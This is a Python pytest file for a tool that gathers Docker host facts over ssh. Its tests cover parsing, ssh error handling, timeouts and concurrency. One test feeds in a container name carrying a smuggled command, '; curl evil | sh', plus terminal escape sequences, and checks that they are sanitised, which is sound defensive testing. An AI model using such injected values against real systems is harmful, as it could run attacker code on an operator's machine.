"""Facts of a host: the script that collects them, in real shells, and how its output is read.

Boards with their own engine and sshd: tests/e2e/test_fleet_check.py.
"""

import json
import shutil
import threading
import time
from collections.abc import Mapping, Sequence
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from clients import host_facts, limited_run
from clients.errors import ServiceError
from clients.foreign import LONGEST
from clients.host_facts import FreshFacts, HostError, HostFacts, Listener, Obstacle, ask_host
from clients.silent_engines import Address, silent
from clients.ssh import LOGINS
from tests.unit.host_recordings import DIND, DISK, NODE, RASPBERRY_PI_4, RecordedHost, on_path, recorded_host
from tests.unit.test_silent_engines import engine, in_json

PI = "ssh://pi@attic.lan"
SHELLS = [shell for shell in ("dash", "bash --posix") if shutil.which(shell.split()[0])]


@pytest.fixture
def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> RecordedHost:
    made = recorded_host(tmp_path / "host")
    monkeypatch.setenv("PATH", on_path(made.folder))
    return made


def refused(engine: str = PI) -> tuple[Obstacle, str]:
    with pytest.raises(HostError) as error:
        ask_host(engine)
    return error.value.obstacle, str(error.value)


@pytest.mark.parametrize("shell", SHELLS)
def test_a_host_tells_all_in_any_posix_shell(
    shell: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = recorded_host(tmp_path / "host", shell)
    made.docker(RASPBERRY_PI_4, NODE)
    monkeypatch.setenv("PATH", on_path(made.folder))
    found = ask_host(PI)
    assert found == HostFacts(
        version="20.10.24+dfsg1",
        machine="aarch64",
        driver="overlay2",
        limits_memory=True,
        memory=3792,
        containers=(
            host_facts.Container(
                name="skycoin-attic",
                runs=True,
                returns=True,
                ports=frozenset({("127.0.0.1", 6420)}),
                writes=frozenset({"skycoin-attic-wallet"}),
            ),
        ),
        bits=64,
        ahead=0.0,
        swap=99,
        free=20438,
        listeners=frozenset(
            {
                Listener("0.0.0.0", 22, 0),
                Listener("127.0.0.1", 6420, 1000),
                Listener("::", 80, 33),
                Listener("127.0.0.1", 8080, 1000),
            }
        ),
    )


def test_a_workspace_with_a_nested_engine_is_recognized(host: RecordedHost) -> None:
    host.docker(RASPBERRY_PI_4, NODE, DIND, {**DIND, "Name": "/plain", "Capabilities": []})
    found = {container.name: container.nested_engine for container in ask_host(PI).containers}
    assert found == {"skycoin-attic": False, "skycoin-workspace-cli": True, "plain": False}


def test_a_local_engine_tells_the_same_of_a_container() -> None:
    """The engine's own API gives the fields that `docker container inspect` prints on a host."""
    inspected = {
        "Name": "/skycoin-workspace-cli",
        "State": {"Status": "exited"},
        "Config": {"Labels": None},
        "HostConfig": {
            "RestartPolicy": {"Name": "unless-stopped"},
            "CapAdd": ["CAP_SYS_ADMIN"],
            "Privileged": False,
        },
    }
    assert host_facts._container(host_facts._reduced(inspected)).nested_engine


def test_a_board_without_getconf_shows_its_bits_by_its_shell(host: RecordedHost) -> None:
    host.lacks("getconf")
    assert ask_host(PI).bits == 64
    host.prints("od", "   1\n")
    assert ask_host(PI).bits == 32


@pytest.mark.parametrize(
    ("there", "ahead"), [("1000", -1.7e9), ("$(($(exec /bin/date +%s) + 7200))", 7200.0)]
)
def test_a_clock_is_compared_with_this_machines(host: RecordedHost, there: str, ahead: float) -> None:
    host.says("date", f"echo {there}")
    assert ask_host(PI).ahead == pytest.approx(ahead, rel=0.1)


def test_a_clock_is_compared_with_the_time_after_the_wait_for_a_login(
    host: RecordedHost, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Waiting for other logins may take an hour, but is no part of the time that the answer took."""
    waited = threading.Event()

    class SlowLogin:
        def __enter__(self) -> None:
            waited.set()

        def __exit__(self, *_: object) -> None:
            pass

    clock = SimpleNamespace(
        time=lambda: time.time() - (0 if waited.is_set() else 7200), monotonic=time.monotonic
    )
    monkeypatch.setattr(host_facts, "Login", SlowLogin)
    monkeypatch.setattr(host_facts, "time", clock)
    host.says("date", "echo $(($(exec /bin/date +%s) - 3600))")
    assert ask_host(PI).ahead == pytest.approx(-3600, rel=0.1)


def test_the_disk_is_that_of_dockers_data_or_of_the_nearest_folder_that_can_be_seen(
    host: RecordedHost,
) -> None:
    host.docker({**RASPBERRY_PI_4, "DockerRootDir": "/mnt/ssd/docker/100000.100000"})
    host.says("df", f'[ "$3" = /mnt/ssd ] && cat {host.folder / "df.txt"}')
    assert ask_host(PI).free == 20438


def test_facts_that_a_host_does_not_report_are_unknown(host: RecordedHost) -> None:
    for program in ("getconf", "od", "date", "df", "grep"):
        host.lacks(program)
    found = ask_host(PI)
    assert (found.bits, found.ahead, found.swap, found.free) == (None, None, None, None)
    assert found.version == "20.10.24+dfsg1"


def test_a_system_of_another_kernel_than_the_engines_is_not_its_host(host: RecordedHost) -> None:
    """Docker Desktop's engine runs in a virtual machine, and the shell outside of it."""
    host.prints("uname", "24.1.0\n")
    found = ask_host(PI)
    assert (found.bits, found.ahead, found.swap, found.free, found.listeners) == (None,) * 5


@pytest.mark.parametrize(
    ("said", "obstacle"),
    [
        ("Host key verification failed.", Obstacle.HOST_KEY),
        ("@@@@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @@@@", Obstacle.HOST_KEY),
        ("pi@attic.lan: Permission denied (publickey,password).", Obstacle.LOGIN),
        ("Received disconnect: Too many authentication failures", Obstacle.LOGIN),
        ("ssh: connect to host attic.lan port 22: Connection timed out", Obstacle.NO_ANSWER),
        ("ssh: Could not resolve hostname attic.lan: Name or service not known", Obstacle.NO_ANSWER),
        ("", Obstacle.NO_ANSWER),
    ],
)
def test_different_ssh_errors_are_distinguished(host: RecordedHost, said: str, obstacle: Obstacle) -> None:
    host.says("ssh", f"echo '{said}' >&2\nexit 255")
    assert refused() == (obstacle, said or "the command ended with 255 and printed nothing")


def test_a_long_banner_hides_no_ssh_error(host: RecordedHost) -> None:
    denied = "pi@attic.lan: Permission denied (publickey)."
    host.says("ssh", f"echo {'Authorized users only. ' * 50} {denied!r} >&2\nexit 255")
    obstacle, said = refused()
    assert obstacle is Obstacle.LOGIN
    assert said.startswith("Authorized users only. ")
    assert said.endswith(denied)
    assert len(said) == LONGEST


def test_a_key_that_may_only_reach_docker_tells_nothing(host: RecordedHost) -> None:
    """With `command=` in authorized_keys, deploying works, but the script never runs."""
    host.says("ssh", "echo HTTP/1.1 400 Bad Request")
    assert refused() == (Obstacle.NO_SHELL, "the command ended with 0 and printed nothing")


def test_missing_docker_missing_permission_and_a_stopped_engine_are_distinguished(
    host: RecordedHost,
) -> None:
    said = (
        "permission denied while trying to connect to the Docker daemon socket at unix:///var/run/docker.sock"
    )
    host.says("docker", f'echo \'{{"ServerErrors":[],"DockerRootDir":""}}\'; echo \'{said}\' >&2; exit 1')
    assert refused() == (Obstacle.NO_PERMISSION, said)
    host.says("docker", 'echo \'{"ServerErrors":["Cannot connect to the Docker daemon"]}\'; exit 1')
    assert refused() == (Obstacle.NO_ENGINE, "Cannot connect to the Docker daemon")
    host.lacks("docker")
    assert refused() == (Obstacle.NO_DOCKER, "the user pi has no docker command")


def recorded(without: str = "", **parts: str) -> str:
    """Output of the script on a Raspberry Pi 4, with other text in some parts, or without one of them."""
    answers = {
        "docker": "/usr/bin/docker",
        "info": json.dumps(RASPBERRY_PI_4),
        "containers": json.dumps(NODE),
        "kernel": "6.1.21-v8+",
        "user": "pi",
        "bits": "64",
        "date": str(int(time.time())),
        "swap": "SwapTotal: 102396 kB",
        "listeners": "",
        "disk": DISK,
        "end": "",
        **parts,
    }
    return "".join(f"\n=skyinfra {name}\n{text}\n" for name, text in answers.items() if name != without)


def altered(recording: Mapping[str, Any], **fields: object) -> str:
    return json.dumps({**recording, **fields})


@pytest.mark.parametrize(
    "printed",
    [
        recorded(info="[]"),
        recorded(info="null"),
        recorded(info="[" * 100_000),
        recorded(info='{"DockerRootDir": "/var/lib/docker"}'),
        recorded(info='{"ServerErrors": 5}'),
        recorded(info=altered(RASPBERRY_PI_4, MemTotal="4 GB")),
        recorded(info=altered(RASPBERRY_PI_4, MemTotal=-1)),
        recorded(info=altered(RASPBERRY_PI_4, MemTotal=10**400)),
        recorded(info=altered(RASPBERRY_PI_4, ServerVersion=20)),
        recorded(info=altered(RASPBERRY_PI_4, Architecture=None)),
        recorded(containers="[]"),
        recorded(containers="Error: No such container"),
        recorded(containers=altered(NODE, Ports=[1])),
        recorded(containers=altered(NODE, Ports={"6420/tcp": [{"HostIp": "", "HostPort": "x"}]})),
        recorded(containers=altered(NODE, Mounts=[{"Name": {"x": 1}}])),
        recorded(listeners="0A"),
        recorded(listeners="0: xyz:1914 0 0A 0 0 0 1000"),
        *(recorded(without=part) for part in ("docker", "info", "containers", "bits", "disk")),
    ],
)
def test_an_answer_of_another_form_than_dockers_is_the_hosts_fault(host: RecordedHost, printed: str) -> None:
    """It was an internal error, which ended `fleet check` and every preview for all hosts."""
    host.prints("ssh", printed)
    obstacle, said = refused()
    assert obstacle is Obstacle.OTHER_FORM
    assert len(said) <= LONGEST
    assert said.isprintable()


@pytest.mark.parametrize("date", ["9" * 30, "9" * 5000, "\u00b2", "253402300800"])
def test_a_number_that_no_clock_and_no_disk_has_is_unknown(host: RecordedHost, date: str) -> None:
    host.prints(
        "ssh", recorded(date=date, swap=f"SwapTotal: {'9' * 400} kB", disk=f"x 1 1 {'9' * 5000} 1% /")
    )
    found = ask_host(PI)
    assert (found.ahead, found.swap, found.free) == (None, None, None)


def test_words_of_a_host_are_no_commands_for_a_terminal_or_a_shell(host: RecordedHost) -> None:
    """They are in the table, in every `up`, and in commands that a message tells the operator to run."""
    info = altered(
        RASPBERRY_PI_4,
        ServerVersion="20.10\x1b]0;title\x07" + "x" * 1000,
        Architecture="aarch64\x1b[2J",
        Driver="vfs\x07",
    )
    host.prints("ssh", recorded(info=info, containers=altered(NODE, Name="/web; curl evil | sh\x1b[2J")))
    found = ask_host(PI)
    assert (found.machine, found.driver) == ("aarch64?[2J", "vfs?")
    assert found.version.startswith("20.10?]0;title?x")
    assert len(found.version) == LONGEST
    assert [container.name for container in found.containers] == ["web??curl?evil???sh??2J"]


def test_a_host_that_hangs_is_given_up_with_all_that_ssh_started(
    host: RecordedHost, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A jump host's ssh keeps the pipes of the ended ssh open."""
    monkeypatch.setattr(host_facts, "SECONDS", 0.3)
    host.says("ssh", "sleep 60 &\nsleep 60")
    began = time.monotonic()
    assert refused() == (Obstacle.NO_ANSWER, "no answer within 0.3 s")
    assert time.monotonic() - began < 10


@pytest.mark.parametrize("stream", ["1", "2"])
def test_a_host_that_prints_without_end_is_given_up_before_this_machines_memory_is_full(
    host: RecordedHost, monkeypatch: pytest.MonkeyPatch, stream: str
) -> None:
    """A board in a fast network could fill the operator's memory in the 25 seconds that it has."""
    monkeypatch.setattr(limited_run, "LARGEST", 100_000)
    host.says("ssh", f"sleep 60 &\nexec yes >&{stream}")
    began = time.monotonic()
    assert refused() == (Obstacle.OTHER_FORM, "it prints more than 32.0 MB")
    assert time.monotonic() - began < 10


def test_an_ssh_that_reads_nothing_is_no_internal_error(host: RecordedHost) -> None:
    host.says("ssh", "exec <&- >&- 2>&-\nsleep 0.2\nexit 255")
    assert refused() == (Obstacle.NO_ANSWER, "the command ended with 255 and printed nothing")


def test_a_missing_local_engine_is_reported(tmp_path: Path) -> None:
    obstacle, said = refused(f"unix://{tmp_path / 'docker.sock'}")
    assert obstacle is Obstacle.NO_ENGINE
    assert "No such file or directory" in said


@pytest.mark.parametrize("version", ["x.y", "1.41"])
def test_an_answer_of_a_local_engine_in_another_form_is_its_hosts_fault(tmp_path: Path, version: str) -> None:
    """The first version was an internal error; with the second, `fleet check` showed no other host."""
    answer = in_json(b'{"ApiVersion": "%s"}' % version.encode())
    with engine(tmp_path / "docker.sock", answer) as address:
        obstacle, said = refused(address.engine)
    assert obstacle is Obstacle.OTHER_FORM
    assert len(said) <= LONGEST


@pytest.mark.parametrize("scheme", ["tcp", "ssh"])
@pytest.mark.parametrize("address", ["[", "attic.lan:port", "attic.lan:99999"])
def test_an_address_that_cant_be_read_is_its_hosts_fault(scheme: str, address: str) -> None:
    """Before, it was an internal error, then an answer in another form: nobody had been asked."""
    assert refused(f"{scheme}://{address}")[0] is Obstacle.ADDRESS


@pytest.mark.parametrize("address", ["ssh://[", "ssh://pi@attic.lan:port", "ssh://pi@attic.lan:99999"])
def test_an_address_of_ssh_that_cant_be_read_is_reported(address: str) -> None:
    """It was an internal error of every command that uses the engine of DOCKER_HOST."""
    with pytest.raises(ServiceError) as error:
        silent([Address(address)])
    assert str(error.value) == (
        f"{address}, as in DOCKER_HOST, is not the address of an engine: behind ssh that is "
        "ssh://USER@HOST or ssh://USER@HOST:PORT, with a port from 1 to 65535. Correct that variable, or "
        "unset it for the engine at the system's socket."
    )


def test_all_who_ask_for_a_host_within_a_minute_share_one_answer(monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[str | None] = []

    def ask(engine: str | None, _: Sequence[str]) -> HostFacts:
        time.sleep(0.05)
        asked.append(engine)
        raise HostError(Obstacle.NO_ANSWER, "no route")

    facts, errors = FreshFacts(ask), list[str]()

    def wait() -> None:
        try:
            facts(PI, [])
        except HostError as error:
            errors.append(str(error))

    threads = [threading.Thread(target=wait) for _ in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert (asked, errors) == ([PI], ["no route"] * 20)
    monkeypatch.setattr(host_facts, "FRESH", -1.0)
    wait()
    assert asked == [PI, PI]


def test_a_provider_with_many_hosts_asks_ten_at_once() -> None:
    now, most, lock = [0], [0], threading.Lock()

    def ask(*_: object) -> HostFacts:
        with lock:
            now[0] += 1
            most[0] = max(most[0], now[0])
        time.sleep(0.05)
        with lock:
            now[0] -= 1
        raise HostError(Obstacle.NO_ANSWER, "no route")

    facts = FreshFacts(ask)

    def wait(number: int) -> None:
        with pytest.raises(HostError):
            facts(f"ssh://board-{number}.lan", [])

    threads = [threading.Thread(target=wait, args=(number,)) for number in range(30)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert most == [LOGINS]
